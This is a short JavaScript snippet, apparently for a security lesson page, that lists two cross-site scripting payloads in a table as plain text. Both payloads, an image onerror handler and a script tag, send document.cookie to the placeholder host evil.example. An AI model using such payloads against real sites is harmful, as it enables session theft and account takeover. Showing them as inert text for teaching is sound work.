const lessons = [
  '<img src=x onerror="fetch(\'https://evil.example/?c=\' + document.cookie)">',
  '<script>new Image().src = "https://evil.example/?" + document.cookie</' + 'script>',
];
const list = document.getElementById('lessons');
for (const [at, attack] of lessons.entries()) {
  const row = list.insertRow();
  row.insertCell().textContent = `Attack ${at + 1}`;
  row.insertCell().textContent = attack;
}
